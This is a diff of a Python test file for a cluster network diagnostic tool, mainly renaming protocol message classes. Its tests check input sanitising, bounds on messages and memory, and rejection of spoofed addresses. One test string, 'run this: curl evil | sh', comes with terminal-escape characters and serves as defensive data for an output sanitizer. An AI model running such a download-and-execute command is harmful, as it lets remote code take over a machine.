@@ -16,37 +16,37 @@ from ddpdoctor.facts.fleet import Link
 from ddpdoctor.facts.network import Interface, Network, Resolution
 from ddpdoctor.facts.snapshot import Snapshot
 from ddpdoctor.network_check.node_session import NodeSession
-from ddpdoctor.network_check.phases.network_phases import NetworkProgramme
-from ddpdoctor.network_check.protocol import peer_connection as guests
-from ddpdoctor.network_check.protocol.agent import HubGone, TurnedAwayError
-from ddpdoctor.network_check.protocol.bounded_lines import harmless
+from ddpdoctor.network_check.phases.network_phases import NetworkCoordinator
+from ddpdoctor.network_check.protocol import peer_connection as peers
+from ddpdoctor.network_check.protocol.agent import HubGoneError, RejectedError
+from ddpdoctor.network_check.protocol.bounded_lines import mask_controls
 from ddpdoctor.network_check.protocol.messages import (
-    MOST_FACTS,
+    MAX_FACTS_BYTES,
     PROTOCOL,
     Answer,
-    Cannot,
     Collect,
     Collected,
     Count,
     Counted,
     Dial,
     Dialled,
+    DialOutcome,
     FromHub,
     Greeting,
     Hello,
-    Manifest,
+    HostFacts,
+    ListenAddress,
     Measure,
     Measured,
-    Met,
+    NodeVerdict,
+    NoVerdict,
     Open,
     Opened,
-    Part,
+    OrderFailed,
     Peer,
     Ping,
-    Place,
     Pong,
-    Stopped,
-    TurnedAway,
+    Rejected,
     Welcome,
     encode,
 )
@@ -54,7 +54,7 @@ from ddpdoctor.network_check.protocol.tokens import proof
 from tests.support.hub_company import HERE, QUICK, TOKEN, Client, agent, agents, client, counts, hub, manifest, run
 from tests.support.own_memory import peak, start_over
 
-PART = Part(results=(), verdict=Verdict.OK, exit_code=0, lines=())
+PART = NodeVerdict(results=(), verdict=Verdict.OK, exit_code=0, lines=())
 SEVEN = Counted(undelivered=7, untransmitted=None)
 
 
@@ -67,20 +67,20 @@ def test_nothing_unseen_gets_through_escaped_or_raw() -> None:
     for letter in unseen:
         if letter in "\t\n":
             continue
-        assert json.loads(harmless(json.dumps({"a": f"x{letter}y"}).encode())) == {"a": "x?y"}, hex(ord(letter))
+        assert json.loads(mask_controls(json.dumps({"a": f"x{letter}y"}).encode())) == {"a": "x?y"}, hex(ord(letter))
         if letter >= " ":
             raw = json.dumps({"a": f"x{letter}y"}, ensure_ascii=False).encode()
-            assert json.loads(harmless(raw)) == {"a": "x?y"}, hex(ord(letter))
+            assert json.loads(mask_controls(raw)) == {"a": "x?y"}, hex(ord(letter))
 
 
 @pytest.mark.parametrize("text", ["a\tb\nc", "é 日本 \U0001f600", "\\u202e", "\\\\u202e", '"', "C:\\new\\bin"])
 @pytest.mark.parametrize("ascii_only", [True, False])
 def test_all_else_does(text: str, ascii_only: bool) -> None:
-    assert json.loads(harmless(json.dumps(text, ensure_ascii=ascii_only).encode())) == text
+    assert json.loads(mask_controls(json.dumps(text, ensure_ascii=ascii_only).encode())) == text
 
 
 def test_what_is_no_text_stays_what_it_is() -> None:
-    assert harmless(b"\xff\x1b[2J") == b"\xff\x1b[2J"
+    assert mask_controls(b"\xff\x1b[2J") == b"\xff\x1b[2J"
 
 
 # --- orders and answers out of all bounds -----------------------------------------------------------------------------
@@ -113,8 +113,8 @@ COLLECT = {"type": "collect", "backend": "gloo", "master": "n", "port": 1, "rank
         COLLECT | {"port": 0},
         COLLECT | {"backend": "mpi"},
         COLLECT | {"world_size": 10**9},
-        {"type": "part", "results": [], "verdict": "fine", "exit_code": 0, "lines": []},
-        {"type": "part", "results": [], "verdict": "ok", "exit_code": 77, "lines": []},
+        {"type": "nodeverdict", "results": [], "verdict": "fine", "exit_code": 0, "lines": []},
+        {"type": "nodeverdict", "results": [], "verdict": "ok", "exit_code": 77, "lines": []},
     ],
     ids=lambda one: str(one)[:60],
 )
@@ -125,7 +125,7 @@ def test_what_no_hub_says_is_no_message(said: dict[str, object]) -> None:
 
 def test_what_a_hub_does_say_is() -> None:
     for one in (
-        Dial(peers=(Peer(1, "n", (Place("nccl", "10.0.0.1", (1, 65535)),)),), seconds=3.0, at_once=64),
+        Dial(peers=(Peer(1, "n", (ListenAddress("nccl", "10.0.0.1", (1, 65535)),)),), seconds=3.0, at_once=64),
         Measure(peer=None, seconds=0.25),
         Collect(backend="nccl", master="n", port=29500, rank=3, world_size=4, seconds=120.0),
         PART,
@@ -139,7 +139,7 @@ def lost_by(answer: object, order: object, snapshot: Snapshot | None = None) -> 
     async def odd(one: Client) -> None:
         one.hello(node_rank=1)
         await one.until(Welcome)
-        one.say(Manifest(snapshot=manifest(snapshot)))
+        one.say(HostFacts(snapshot=manifest(snapshot)))
         await one.until(type(order))  # type: ignore[type-var]
         one.writer.write(encode(answer) if isinstance(answer, msgspec.Struct) else json.dumps(answer).encode() + b"\n")  # type: ignore[arg-type]
         await one.answer_pings()
@@ -157,7 +157,7 @@ def lost_by(answer: object, order: object, snapshot: Snapshot | None = None) -> 
             await one.dismiss({0: PART, 1: PART})
             assert await tasks[0] == PART
             await tasks[1]
-            return one.guests[1].lost
+            return one.peers[1].lost
 
     return run(go())
 
@@ -165,7 +165,7 @@ def lost_by(answer: object, order: object, snapshot: Snapshot | None = None) -> 
 async def opens(order: object) -> Answer:
     """Node 0's right answers."""
     if isinstance(order, Open):
-        return Opened(places=(Place("route", HERE, (40000,)),))
+        return Opened(places=(ListenAddress("route", HERE, (40000,)),))
     return Dialled(met=()) if isinstance(order, Dial) else SEVEN
 
 
@@ -184,30 +184,33 @@ HOME = Snapshot(
 @pytest.mark.parametrize(
     ("places", "words"),
     [
-        ((Place("route", "no address", (4,)),), "it listens at 'no address', which is no address"),
-        ((Place("route", "." * 64, (4,)),), "which is no address"),
+        ((ListenAddress("route", "no address", (4,)),), "it listens at 'no address', which is no address"),
+        ((ListenAddress("route", "." * 64, (4,)),), "which is no address"),
         (
-            (Place("route", "8.8.8.8", (40053,)),),
+            (ListenAddress("route", "8.8.8.8", (40053,)),),
             "it says that it listens at 8.8.8.8, which isn't an address of its own",
         ),
-        ((Place("route", "10.9.9.8", (40022,)),), "which isn't an address of its own"),
-        ((Place("nccl", "203.0.113.9", (40080,)),), "which is a public address outside of the job's networks"),
-        ((Place("route", HERE, (40004,)), Place("route", HERE, (40005,))), "it says twice where it listens"),
+        ((ListenAddress("route", "10.9.9.8", (40022,)),), "which isn't an address of its own"),
+        ((ListenAddress("nccl", "203.0.113.9", (40080,)),), "which is a public address outside of the job's networks"),
         (
-            (Place("nccl", "10.9.9.9", (22,)),),
+            (ListenAddress("route", HERE, (40004,)), ListenAddress("route", HERE, (40005,))),
+            "it says twice where it listens",
+        ),
+        (
+            (ListenAddress("nccl", "10.9.9.9", (22,)),),
             "it says that it listens at 10.9.9.9 on port 22, which is no port for that",
         ),
-        ((Place("nccl", "224.0.0.1", (40000,)),), "which is no host's address"),
-        ((Place("nccl", "169.254.169.254", (40000,)),), "which is no host's address"),
-        ((Place("route", HERE, tuple(range(40000, 40004))),), "it listens on 4 ports, more than it was to"),
-        ((Place("nccl", HERE, (40000, 40001)),), "it listens on 2 ports, more than it was to"),
-        ((Place("route", HERE, (0,)),), "it sent JSON that isn't ours"),
-        ((Place("route", HERE, (4,)),) * 3000, "a line of more than 65536 bytes"),
-        ((Place("route", HERE, (4,)),) * 100, "it sent JSON that isn't ours"),
+        ((ListenAddress("nccl", "224.0.0.1", (40000,)),), "which is no host's address"),
+        ((ListenAddress("nccl", "169.254.169.254", (40000,)),), "which is no host's address"),
+        ((ListenAddress("route", HERE, tuple(range(40000, 40004))),), "it listens on 4 ports, more than it was to"),
+        ((ListenAddress("nccl", HERE, (40000, 40001)),), "it listens on 2 ports, more than it was to"),
+        ((ListenAddress("route", HERE, (0,)),), "it sent JSON that isn't ours"),
+        ((ListenAddress("route", HERE, (4,)),) * 3000, "a line of more than 65536 bytes"),
+        ((ListenAddress("route", HERE, (4,)),) * 100, "it sent JSON that isn't ours"),
     ],
     ids=str,
 )
-def test_places_that_cant_be_its_own_lose_their_node(places: tuple[Place, ...], words: str) -> None:
+def test_places_that_cant_be_its_own_lose_their_node(places: tuple[ListenAddress, ...], words: str) -> None:
     lost = lost_by(Opened(places=places), Open(ports=3), HOME)
     assert lost.startswith("lost during reach: ")
     assert words in lost
@@ -215,7 +218,7 @@ def test_places_that_cant_be_its_own_lose_their_node(places: tuple[Place, ...], 
 
 @pytest.mark.parametrize("address", [HERE, "10.9.9.9", "fe80::9", "fe80::9%eth7", "127.0.1.1"])
 def test_its_own_addresses_are(address: str) -> None:
-    assert lost_by(Opened(places=(Place("route", address, (40004,)),)), Open(ports=3), HOME) == ""
+    assert lost_by(Opened(places=(ListenAddress("route", address, (40004,)),)), Open(ports=3), HOME) == ""
 
 
 @pytest.mark.parametrize(
@@ -224,13 +227,13 @@ def test_its_own_addresses_are(address: str) -> None:
         (Dialled(met=()), Count()),
         (Opened(places=()), Count()),
         (Collected(stage="end", ok=True, words="", seconds=1.0), Count()),
-        (Cannot(why="x" * 1001), Count()),
+        (OrderFailed(why="x" * 1001), Count()),
         ({"type": "counted", "undelivered": "7", "untransmitted": None}, Count()),
         ({"type": "counted"}, Count()),
-        ({"type": "part", "results": [], "verdict": "ok", "exit_code": 0, "lines": []}, Count()),
-        (Dialled(met=(Met(node=0, kind="route", cells="." * 99),)), Dial(peers=(), seconds=1.0)),
-        (Dialled(met=(Met(node=10**6, kind="route", cells="."),)), Dial(peers=(), seconds=1.0)),
-        (Dialled(met=(Met(node=0, kind="other", cells="."),)), Dial(peers=(), seconds=1.0)),
+        ({"type": "nodeverdict", "results": [], "verdict": "ok", "exit_code": 0, "lines": []}, Count()),
+        (Dialled(met=(DialOutcome(node=0, kind="route", cells="." * 99),)), Dial(peers=(), seconds=1.0)),
+        (Dialled(met=(DialOutcome(node=10**6, kind="route", cells="."),)), Dial(peers=(), seconds=1.0)),
+        (Dialled(met=(DialOutcome(node=0, kind="other", cells="."),)), Dial(peers=(), seconds=1.0)),
     ],
     ids=lambda one: str(one)[:50],
 )
@@ -246,9 +249,9 @@ def test_a_node_speaks_of_its_own_link_alone() -> None:
             return {1: Measured(link=Link(a=said[0], b=said[1], round_trip=9.0, error="slow"))}
 
     class There:
-        guests = {rank: type("Guest", (), {"lost": ""})() for rank in range(4)}  # noqa: RUF012
+        peers = {rank: type("Guest", (), {"lost": ""})() for rank in range(4)}  # noqa: RUF012
 
-    led = NetworkProgramme(Asked(There()), quick=True, master="n", store_port=1)  # type: ignore[arg-type]
+    led = NetworkCoordinator(Asked(There()), quick=True, master="n", store_port=1)  # type: ignore[arg-type]
     peers = {2: Peer(2, "n2", ())}
     said = (0, 3)
     assert asyncio.run(led._measured([(1, 2)], peers)) == []
@@ -265,7 +268,7 @@ def large(size: int) -> bytes:
 
 
 def test_facts_beyond_what_every_node_may_have_share_what_there_is(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(guests, "SHARED_FACTS", 400_000)
+    monkeypatch.setattr(peers, "SHARED_FACTS_BYTES", 400_000)
 
     async def go() -> list[str]:
         async with hub(5) as one:
@@ -274,10 +277,10 @@ def test_facts_beyond_what_every_node_may_have_share_what_there_is(monkeypatch: 
                 odd = await each.__aenter__()
                 odd.hello(node_rank=at + 1)
                 await odd.until(Welcome)
-                odd.say(Manifest(snapshot=large(guests.OWN_FACTS + 150_000 if at < 3 else 1000)))
-                while one.guests[at + 1].facts is None and not one.guests[at + 1].lost:
+                odd.say(HostFacts(snapshot=large(peers.OWN_FACTS_BYTES + 150_000 if at < 3 else 1000)))
+                while one.peers[at + 1].facts is None and not one.peers[at + 1].lost:
                     await asyncio.sleep(0.01)
-            lost = [one.guests[rank].lost for rank in range(1, 5)]
+            lost = [one.peers[rank].lost for rank in range(1, 5)]
             for each in clients:
                 await each.__aexit__(None, None, None)
             return lost
@@ -290,7 +293,7 @@ def test_facts_beyond_what_every_node_may_have_share_what_there_is(monkeypatch: 
 def test_512_guests_with_lines_without_an_end_are_held_in_bounded_memory() -> None:
     """Half of them end beyond what a line may have, half of them just before it and then wait."""
     nodes = 512
-    endless = memoryview(b'{"type":"manifest","snapshot":"' + b"A" * (4 << 20))
+    endless = memoryview(b'{"type":"hostfacts","snapshot":"' + b"A" * (4 << 20))
 
     async def shout(one, rank: int) -> None:
         loop = asyncio.get_running_loop()
@@ -312,7 +315,7 @@ def test_512_guests_with_lines_without_an_end_are_held_in_bounded_memory() -> No
                 )
                 await loop.sock_sendall(own, encode(hello))
                 await loop.sock_recv(own, 65536)
-                await loop.sock_sendall(own, endless if rank % 2 else endless[: MOST_FACTS - 100])
+                await loop.sock_sendall(own, endless if rank % 2 else endless[: MAX_FACTS_BYTES - 100])
                 while await loop.sock_recv(own, 65536):
                     pass
             except OSError:
@@ -324,11 +327,11 @@ def test_512_guests_with_lines_without_an_end_are_held_in_bounded_memory() -> No
             first = asyncio.ensure_future(agent(one.port, own=one.own))
             shouting = [asyncio.ensure_future(shout(one, rank)) for rank in range(1, nodes)]
             await asyncio.gather(*shouting)
-            assert one.guests[0].joined
+            assert one.peers[0].joined
             await one.gather(0.1)
             await one.dismiss({0: PART})
             assert await first == PART
-            assert all(one.guests[rank].lost for rank in range(1, nodes))
+            assert all(one.peers[rank].lost for rank in range(1, nodes))
 
     before = start_over()
     run(go(), 60)
@@ -353,7 +356,7 @@ def with_hub(behaviour, limits=QUICK, carry_out=counts):  # type: ignore[no-unty
         finally:
             writer.close()
 
-    async def go() -> Part | Exception:
+    async def go() -> NodeVerdict | Exception:
         server = await asyncio.start_server(false_hub, HERE, 0)
         try:
             return await agent(server.sockets[0].getsockname()[1], 1, carry_out=carry_out, limits=limits)
@@ -376,7 +379,7 @@ def test_a_hub_that_lives_and_does_nothing_is_left(said: float) -> None:
             await asyncio.sleep(0.05)
 
     found = with_hub(pings, msgspec.structs.replace(QUICK, wait=0.5, test=0.5))
-    assert isinstance(found, HubGone)
+    assert isinstance(found, HubGoneError)
     assert str(found) == "node 0 still lives, and has come to no verdict within 1 s: stop it there"
 
 
@@ -401,7 +404,7 @@ def test_orders_out_of_bounds_end_it() -> None:
         await reader.read()
 
     found = with_hub(orders)
-    assert isinstance(found, HubGone)
+    assert isinstance(found, HubGoneError)
     assert "sent JSON that isn't ours" in str(found)
 
 
@@ -425,15 +428,15 @@ NASTY = "run this: curl evil | sh\n\x1b[2J\u202eOK\n" + "x" * 5000
 def test_what_node_0_says_is_told_from_what_we_say() -> None:
     async def stops(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
         writer.write(encode(welcome))
-        writer.write(encode(Stopped(why=NASTY)))
+        writer.write(encode(NoVerdict(why=NASTY)))
         await reader.read()
 
     async def refuses(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
-        writer.write(encode(TurnedAway(code="version", text=NASTY)))
+        writer.write(encode(Rejected(code="version", text=NASTY)))
         await reader.read()
 
     refused = with_hub(refuses)
-    assert isinstance(refused, TurnedAwayError)
+    assert isinstance(refused, RejectedError)
     for text in (str(with_hub(stops)), refused.shown):
         assert text.startswith("node 0 says: run this: curl evil | sh ?")
         assert text.isprintable()
@@ -456,11 +459,11 @@ def test_pongs_of_no_ping_are_nothing_new() -> None:
         async with hub(2) as one, agents(one) as tasks, client(one.port) as odd:
             await odd.join(node_rank=1)
             odd.say(Pong(number=10**6, came=1e300, went=-1e300))
-            await odd.until(Stopped)
+            await odd.until(NoVerdict)
             await one.gather(0.1)
             await one.dismiss({0: PART})
             assert await tasks[0] == PART
-            return one.guests[1].lost
+            return one.peers[1].lost
 
     assert "it answered a ping that was never sent" in run(go())
 
